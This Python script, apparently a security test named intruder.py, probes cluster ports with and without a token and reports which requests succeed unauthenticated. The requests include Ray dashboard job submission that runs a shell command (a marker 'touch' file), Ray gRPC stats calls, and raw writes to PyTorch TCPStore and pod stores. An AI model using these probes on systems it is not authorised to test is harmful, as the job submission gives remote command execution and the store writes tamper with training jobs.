"""Send requests to ports without and with the token: `python intruder.py TOKEN ADDRESS:PORT...`, run on a host.

Prints a JSON object: for every port, the requests that it executes without the token, and those that it executes only
with it. The store of a pod is marked in the second list: it requires a secret that only its instances have.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from typing import Iterator, List, Tuple

WITHIN_S = 1.5
RPCS = (
    "/ray.rpc.NodeInfoGcsService/GetAllNodeInfo",
    "/ray.rpc.NodeManagerService/GetNodeStats",
    "/ray.rpc.CoreWorkerService/GetCoreWorkerStats",
)
JOB = json.dumps({"entrypoint": "touch /tmp/intruder-was-here"}).encode()
IS_A_STORE = "the store of the instances"
KEY = b"/intruder"  # torch prepends the slash to every key
REQUESTS = (("GET", "/metrics", b""), ("POST", "/api/jobs/", JOB), ("POST", "/api/job_agent/jobs/", JOB))


def answers(where: Tuple[str, int], token: str) -> Tuple[List[str], List[str]]:
    """Return the requests that a port executes without the token, and those that it executes with the token.

    Executed: HTTP requests with a status below 300, gRPC calls that return a message, and writes to a store.
    """
    open_to_all = [
        f"{method} {path}" for method, path, body in REQUESTS if http_status(where, method, path, body) < 300
    ]
    open_to_all += [rpc for rpc in RPCS if grpc_returns_a_message(where, rpc, "")]
    open_to_all += [f"write to a store of torch {version}" for version in TORCH_STORES if adds(where, version)]
    is_store, writes = pod_store(where)
    open_to_all += ["write to the store"] if writes else []
    known = [rpc for rpc in RPCS if grpc_returns_a_message(where, rpc, token)]
    return open_to_all, known + [IS_A_STORE] * is_store


def http_status(where: Tuple[str, int], method: str, path: str, body: bytes) -> int:
    """Return the HTTP status; 999 without an answer."""
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    answer = b"".join(exchange(where, f"{head}Connection: close\r\n\r\n".encode() + body))
    words = answer.split(None, 2)
    return int(words[1]) if answer.startswith(b"HTTP/1") and len(words) > 1 and words[1].isdigit() else 999


def grpc_returns_a_message(where: Tuple[str, int], rpc: str, token: str) -> bool:
    """Make a gRPC call with an empty request: a refused call is answered only by headers."""
    headers = {":method": "POST", ":scheme": "http", ":path": rpc, ":authority": "x", "te": "trailers"}
    headers["content-type"] = "application/grpc"
    if token:
        headers["authorization"] = f"Bearer {token}"
    block = b"".join(b"\x00" + text(name) + text(value) for name, value in headers.items())  # literal header fields
    sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 4, 1, block) + frame(0, 1, 1, bytes(5))
    received = b"".join(exchange(where, sent, until=ends_stream))
    return any(kind == 0 and len(content) > 5 for kind, _, content in frames(received))


# The greeting of a TCPStore client of torch, and the code of its add operation.
TORCH_STORES = {"2.0": (b"", 3), "2.1 and later": (b"\x00" + struct.pack("<I", 0x3C85F7CE), 4)}


def adds(where: Tuple[str, int], version: str) -> bool:
    """Return whether a TCPStore of torch executes an add, which is a write and a read."""
    greeting, add = TORCH_STORES[version]
    request = greeting + bytes([add]) + struct.pack("<Q", len(KEY)) + KEY + struct.pack("<q", 41)
    received = b"".join(exchange(where, request, until=lambda data: len(data) >= 8))
    return len(received) == 8 and struct.unpack("<q", received)[0] % 41 == 0


def pod_store(where: Tuple[str, int]) -> Tuple[bool, bool]:
    """Return whether a pod's store listens there, and whether it answers a write without authentication.

    The store replies to 32 random bytes with 64 bytes, whose last 32 authenticate it, and closes the connection of a
    client that fails to authenticate.
    """
    greeted = b"".join(exchange(where, bytes(32), until=lambda data: len(data) >= 64))
    words = b"".join(struct.pack(">I", len(word)) + word for word in (b"\x00", KEY, b"was here"))
    message = struct.pack(">I", len(words) + 32) + words + bytes(32)
    answered = b"".join(exchange(where, bytes(64) + message))
    return len(greeted) == 64, len(greeted) == 64 < len(answered)


def text(value: str) -> bytes:
    """Encode a string of at most 126 + 127 bytes in HPACK, without Huffman coding."""
    data = value.encode()
    return (bytes([len(data)]) if len(data) < 127 else bytes([127, len(data) - 127])) + data


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def frames(received: bytes) -> Iterator[Tuple[int, int, bytes]]:
    """Yield (kind, flags, content) of every complete HTTP/2 frame."""
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if len(received) < 9 + length:
            return
        yield received[3], received[4], received[9 : 9 + length]
        received = received[9 + length :]


def ends_stream(received: bytes) -> bool:
    """Return whether the answer to a call is complete."""
    return any(kind in (0, 1) and flags & 1 for kind, flags, _ in frames(received))


def exchange(where: Tuple[str, int], sent: bytes, until: object = None) -> Iterator[bytes]:
    """Send data, and read until the connection closes, times out, or the answer is complete."""
    received = b""
    try:
        with socket.create_connection(where, WITHIN_S) as connection:
            connection.sendall(sent)
            while True:
                data = connection.recv(65536)
                received += data
                if not data or (callable(until) and until(received)):
                    break
    except OSError:
        pass
    yield received


def main() -> None:
    """Print the result for all ports."""
    token, *places = sys.argv[1:]
    split = [(place.rpartition(":")[0], int(place.rpartition(":")[2])) for place in places]
    with ThreadPoolExecutor(len(places)) as pool:
        found = list(pool.map(lambda where: answers(where, token), split))
    sys.stdout.write(json.dumps(dict(zip(places, found))) + "\n")


if __name__ == "__main__":
    main()
